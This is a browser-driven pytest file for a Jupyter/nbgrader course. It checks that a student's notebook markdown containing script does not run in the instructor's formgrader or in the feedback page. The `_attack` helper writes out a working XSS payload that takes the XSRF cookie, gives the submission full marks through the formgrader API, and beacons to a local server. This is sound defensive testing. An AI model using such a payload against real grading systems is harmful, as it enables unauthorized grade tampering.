"""A submission that carries script, opened where people look at submissions: the instructor's formgrader (a real
Jupyter server with nbgrader's formgrader, logged in with its token) and the student's feedback page, in Chromium.

What it protects (boundary/inert.py, grader/cheats/script_in_markdown.py): no script of the submission runs in either
page (it would mark the page, call back to a server of this test, and give itself full marks through the
formgrader's API), and the gradebook is the same after the pages were opened as before.
"""
from __future__ import annotations

import http.server
import threading
from pathlib import Path

import nbformat
import pytest
from helpers.browser import CHROMIUM_ARGS, JupyterLabServer, find_chromium
from helpers import REPO
from helpers.synthetic import SYNTHETIC_LAB as LAB, make_synthetic_course
from nbformat.v4 import new_markdown_cell

from lab_utils import grading

pytestmark = [pytest.mark.browser, pytest.mark.slow]
STUDENT = "mallory"


def _attack(ping: str) -> str:
    """The corpus's markdown attack, and a script that gives this submission full marks through the formgrader's
    API (with the page's XSRF cookie, as formgrade.js does) and calls back to the test."""
    head = next(line for line in (REPO / "grader" / "cheats" / "script_in_markdown.py").read_text().splitlines()
                if line.startswith("# markdown:"))
    steal = f"""<script>
(async () => {{
  new Image().src = "{ping}/ran";
  window.DTLABS_PWNED = "formgrader";
  const x = document.cookie.match(/_xsrf=([^;]+)/);
  const h = {{"Content-Type": "application/json"}};
  if (x) h["X-XSRFToken"] = decodeURIComponent(x[1]);
  const grades = await (await fetch("/formgrader/api/grades?submission_id=" + submission_id, {{headers: h}})).json();
  for (const g of grades) {{
    await fetch("/formgrader/api/grade/" + g.id, {{method: "PUT", headers: h,
      body: JSON.stringify({{manual_score: g.max_score, extra_credit: 10}})}});
  }}
  new Image().src = "{ping}/graded-" + grades.length;
}})();
</script>"""
    return head.split(":", 1)[1].strip().replace('"x"', f'"{ping}/img"') + "\n\n" + steal


class _Pings(http.server.BaseHTTPRequestHandler):
    seen: list = []

    def do_GET(self):  # noqa: N802 - http.server's name
        _Pings.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


def _grades(root: Path) -> dict:
    from nbgrader.api import Gradebook

    with Gradebook(grading.gradebook.db_url(root)) as gb:
        sub = gb.find_submission_notebook(LAB, LAB, STUDENT)
        return {g.name: (g.auto_score, g.manual_score, g.extra_credit) for g in sub.grades}, sub.id


class _Formgrader(JupyterLabServer):
    """The instructor's Jupyter, with the course's own nbgrader config on the Jupyter path (as grader/README.md says:
    ``JUPYTER_CONFIG_PATH=grader``)."""

    def env(self) -> dict:
        env = super().env()
        env["JUPYTER_CONFIG_PATH"] = str(self.root / "grader")
        return env


@pytest.mark.timeout(900)
def test_a_submissions_script_runs_neither_in_the_formgrader_nor_in_feedback(tmp_path, no_leaked_processes):
    chromium, why = find_chromium()
    if chromium is None:
        pytest.fail(why)  # .ci/install-browser installs it
    from playwright.sync_api import sync_playwright

    pings = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Pings)
    threading.Thread(target=pings.serve_forever, daemon=True).start()
    ping = f"http://127.0.0.1:{pings.server_address[1]}"
    _Pings.seen = []

    root = make_synthetic_course(tmp_path / "course")
    (root / "grader" / "nbgrader_config.py").write_text((REPO / "grader" / "nbgrader_config.py").read_text())
    grading.release([LAB], root=root)
    rel = nbformat.read(str(root / "labs" / LAB / f"{LAB}.ipynb"), as_version=4)
    rel.cells.insert(3, new_markdown_cell(_attack(ping)))  # after the answer cell: the release's stubs, 0 points
    grading.submit(root, STUDENT, LAB, rel)
    lines = []
    grading.grade([LAB], course_root=root, jobs=1, feedback=True, out=lines.append, progress=False)
    before, submission_id = _grades(root)
    assert sum(a or 0 for a, _, _ in before.values()) == 0, (before, lines)
    feedback = root / "grader" / "work" / "feedback" / STUDENT / LAB / f"{LAB}.html"
    assert feedback.is_file(), lines

    server = _Formgrader(root, tmp_path / "home")
    server.start()
    try:
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS, headless=True)
            try:
                page = browser.new_page()
                page.goto(server.url(f"formgrader/submissions/{submission_id}/"))  # logs in with the token
                page.wait_for_load_state("networkidle")
                page.wait_for_timeout(2000)  # what a script would do after the page loaded
                formgrader = (page.evaluate("() => window.DTLABS_PWNED || null"), page.inner_text("body"))
                page.goto(feedback.as_uri())
                page.wait_for_load_state("networkidle")
                page.wait_for_timeout(1000)
                student = (page.evaluate("() => window.DTLABS_PWNED || null"), page.inner_text("body"))
            finally:
                browser.close()
    finally:
        server.stop()
        pings.shutdown()
    after, _ = _grades(root)
    assert "DTLABS-MARKDOWN" in formgrader[1], "the formgrader page should show the submission (its markdown as text)"
    assert "DTLABS-MARKDOWN" in student[1], "the feedback page should show the submission (its markdown as text)"
    assert formgrader[0] is None, f"the submission's script ran in the instructor's formgrader: {formgrader[0]}"
    assert student[0] is None, f"the submission's script ran in the feedback page: {student[0]}"
    assert not _Pings.seen, f"the submission's page called out: {_Pings.seen}"
    assert after == before, f"the gradebook changed while the pages were open: {before} -> {after}"
